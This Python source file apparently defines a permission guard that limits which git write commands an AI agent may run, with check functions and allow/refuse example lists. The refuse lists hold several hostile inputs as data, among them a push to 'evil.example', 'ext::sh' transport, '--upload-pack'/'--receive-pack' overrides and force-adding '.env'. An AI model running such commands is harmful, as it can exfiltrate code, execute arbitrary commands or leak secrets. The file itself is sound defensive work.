"""git sub-commands of restricted: everyday writes that keep work.

Left out on purpose: what discards work or rewrites history (reset --hard, clean, rebase, push --force, branch -D, checkout of
files), skips the person's hooks (--no-verify), opens an editor, signs, or names another repository than a configured remote.
"""

from __future__ import annotations

import re

from multiagent_bridge.guard.commands.git_read import LOG, READ
from multiagent_bridge.guard.commands.kinds import kind_named
from multiagent_bridge.guard.commands.options import Check, Given, Program
from multiagent_bridge.guard.commands.verdict import Denied

_FILE_NAME = re.compile(r"\.[A-Za-z][A-Za-z0-9]{1,9}$|\.[chrdCHRD]$")


def _has_message(given: Given) -> None:
    if given.has("-m", "--message", "-F", "--file") or given.has("--no-edit", "--dry-run"):
        return
    raise Denied("git.editor", "without -m (or --no-edit) git commit opens an editor")


def _one_branch(makes: tuple[str, ...]) -> Check:
    """One plain branch to go to; with an option that makes a branch, also where it starts."""

    def check(given: Given) -> None:
        words = given.texts()
        if given.dashed >= 0 or len(words) > 1 or (not words and not given.has(*makes)):
            raise Denied("git.destroy", "only one branch is accepted: checking out files discards what was changed")
        for word in words:
            if word == "-":
                continue
            kind_named("start")(word, "")
            if _FILE_NAME.search(word) and not given.has(*makes):
                raise Denied(
                    "git.destroy", f"{word} looks like a file: checking it out discards what was changed in it"
                )

    return check


def _only_staged(given: Given) -> None:
    if not given.has("--staged", "-S") or not given.operands:
        raise Denied("git.destroy", "git restore without --staged discards what was changed")


def _only_unstages(given: Given) -> None:
    words = given.texts()
    if given.dashed != 0 and words and words[0] not in ("HEAD", "@"):
        raise Denied("git.destroy", "git reset only takes files back out of the index here: git reset [HEAD] [-- FILE]")


def _only_forward(given: Given) -> None:
    if not given.has("--ff-only", "--abort"):
        raise Denied("git.option", "git merge is accepted with --ff-only or --abort")


def _keeps_stashes(given: Given) -> None:
    words = given.texts()
    if words and words[0] not in ("push", "list", "show", "apply", "pop", "save"):
        raise Denied("git.destroy", f"git stash {words[0]} is not among push, list, show, apply and pop")


def _remote_then_refs(given: Given) -> None:
    for place, word in enumerate(given.operands):
        kind_named("refspec" if place else "remote")(word.text, "")


def _lists_or_makes(given: Given) -> None:
    """`git branch NAME [START]` and `git tag NAME [START]` make; with --list the words are patterns."""
    if given.has("--list", "-l"):
        return
    if len(given.operands) > 2:
        raise Denied("git.operand", "a name and where it starts")
    for word in given.operands:
        kind_named("start")(word.text, "")
    if given.has("-a", "--annotate") and given.operands and not given.has("-m", "--message"):
        raise Denied("git.editor", "an annotated tag needs -m")


_TRANSFER = "-qv --quiet --verbose --progress --no-progress -4 -6"
_FROM_READ = {name: READ[name] for name in READ if name not in ("stash", "branch", "tag")}

WRITE: dict[str, Program] = _FROM_READ | {
    row.name: row
    for row in (
        Program(
            "add",
            "-AuvnN --all --no-all --update --verbose --dry-run --intent-to-add --ignore-errors --renormalize "
            "--refresh --no-ignore-removal",
            "git*",
            allow=("git add src *.py",),
            refuse=(
                "git add -i",
                "git add -e",
                "git add -f .env",
                "git add --pathspec-from-file=x",
                "git add ../x",
            ),
        ),
        Program(
            "commit",
            "-aqvs -m=text -F=path --all --message=text --file=path --amend --no-edit --allow-empty --quiet "
            "--verbose --signoff --dry-run --short --branch --porcelain --author=text --date=text --cleanup=word "
            "--no-status --status --no-gpg-sign --reset-author --no-post-rewrite",
            "git*",
            check=_has_message,
            allow=(
                "git commit -am 'a b'",
                "git commit -m a -- x.py",
            ),
            refuse=(
                "git commit -m a --edit",
                "git commit -nm a",
                "git commit --no-verify -m a",
                "git commit -S -m a",
                "git commit -m a --trailer x",
                "git commit -t x",
                "git commit -c HEAD",
                "git commit --interactive -m a",
            ),
        ),
        Program(
            "checkout",
            "-qlt -b=branch --quiet --track?=direct|inherit --no-track --detach --guess --no-guess --progress "
            "--no-progress",
            "text*",
            check=_one_branch(("-b",)),
            allow=(
                "git checkout -b a/b",
                "git checkout -b a origin/main",
                "git checkout -",
            ),
            refuse=(
                "git checkout -f main",
                "git checkout -- a",
                "git checkout main a",
                "git checkout a.py",
                "git checkout -B main",
                "git checkout --ours a",
                "git checkout -p",
            ),
        ),
        Program(
            "switch",
            "-qdt -c=branch --create=branch --quiet --track?=direct|inherit --no-track --detach --guess "
            "--no-guess --progress --no-progress",
            "text*",
            check=_one_branch(("-c", "--create")),
            allow=(
                "git switch -c a",
                "git switch -",
            ),
            refuse=(
                "git switch -f main",
                "git switch -C a",
                "git switch --discard-changes main",
                "git switch --orphan a",
            ),
        ),
        Program(
            "restore",
            "-Sq --staged --quiet --source=git",
            "git*",
            check=_only_staged,
            allow=("git restore --staged a.py",),
            refuse=("git restore a.py", "git restore -SW a.py", "git restore --staged --worktree a", "git restore ."),
        ),
        Program(
            "reset",
            "-qN --quiet --intent-to-add --no-refresh --refresh",
            "git*",
            check=_only_unstages,
            allow=("git reset", "git reset HEAD a.py", "git reset -q -- a.py"),
            refuse=(
                "git reset HEAD~1",
                "git reset --merge",
                "git reset --keep HEAD",
                "git reset --har",
            ),
        ),
        Program(
            "branch",
            READ["branch"].options
            + " -u=branch --set-upstream-to=branch --track?=direct|inherit --no-track -t -q --quiet",
            "text*",
            check=_lists_or_makes,
            allow=("git branch a/b main", "git branch --list 'a/*'", "git branch -vv"),
            refuse=(
                "git branch -D a",
                "git branch -d a",
                "git branch -f a b",
                "git branch -M a",
                "git branch --edit-description",
                "git branch --unset-upstream",
                "git branch +a",
            ),
        ),
        Program(
            "tag",
            READ["tag"].options + " -a -m=text --annotate --message=text --no-sign",
            "text*",
            check=_lists_or_makes,
            allow=("git tag v1.0", "git tag -a v1 -m one", "git tag -l 'v*'"),
            refuse=("git tag -d v1", "git tag -f v1", "git tag -s v1 -m a", "git tag -a v1", "git tag -v v1"),
        ),
        Program(
            "stash",
            LOG + " -k -a --keep-index --no-keep-index --include-untracked --message=text --index --staged",
            "git*",
            number=True,
            check=_keeps_stashes,
            allow=(
                "git stash",
                "git stash push -m wip",
                "git stash show -p stash@{1}",
            ),
            refuse=(
                "git stash clear",
                "git stash branch x",
                "git stash push --pathspec-from-file=x",
            ),
        ),
        Program(
            "push",
            _TRANSFER
            + " -un --set-upstream --dry-run --porcelain --tags --follow-tags --atomic --no-signed --thin --no-thin",
            "text*",
            check=_remote_then_refs,
            allow=(
                "git push -u origin HEAD",
                "git push origin a:b",
            ),
            refuse=(
                "git push -f",
                "git push origin +main",
                "git push --delete origin a",
                "git push -d origin a",
                "git push --mirror",
                "git push /tmp/x main",
                "git push ext::sh main",
                "git push --receive-pack=x",
                "git push --forc",
                "git push https://evil.example/x main",
                "git push --no-verify",
            ),
        ),
        Program(
            "pull",
            _TRANSFER
            + " -rnp --rebase?=true|false|merges --no-rebase --ff-only --ff --no-ff --no-edit --stat --no-stat "
            "--autostash --no-autostash --prune --tags --no-tags --depth=number --all",
            "text*",
            check=_remote_then_refs,
            allow=("git pull origin main",),
            refuse=(
                "git pull --upload-pack=x",
                "git pull --rebase=interactive",
                "git pull ../x",
                "git pull -f",
                "git pull --edit",
                "git pull -S",
            ),
        ),
        Program(
            "fetch",
            _TRANSFER + " -ptan --all --prune --prune-tags --tags --no-tags --dry-run --depth=number --deepen=number "
            "--unshallow --atomic --append --jobs=number -j=number",
            "text*",
            check=_remote_then_refs,
            allow=("git fetch", "git fetch --all --prune", "git fetch origin main"),
            refuse=(
                "git fetch --upload-pack=x",
                "git fetch /tmp/x",
                "git fetch origin +a:b",
                "git fetch -f",
                "git fetch --stdin",
                "git fetch --set-upstream ../x",
                "git fetch ext::x",
            ),
        ),
        Program(
            "merge",
            "-qv --ff-only --abort --quiet --verbose --stat --no-stat --progress",
            "branch",
            check=_only_forward,
            allow=("git merge --ff-only dev",),
            refuse=("git merge dev", "git merge -X theirs dev", "git merge --squash dev"),
        ),
    )
}
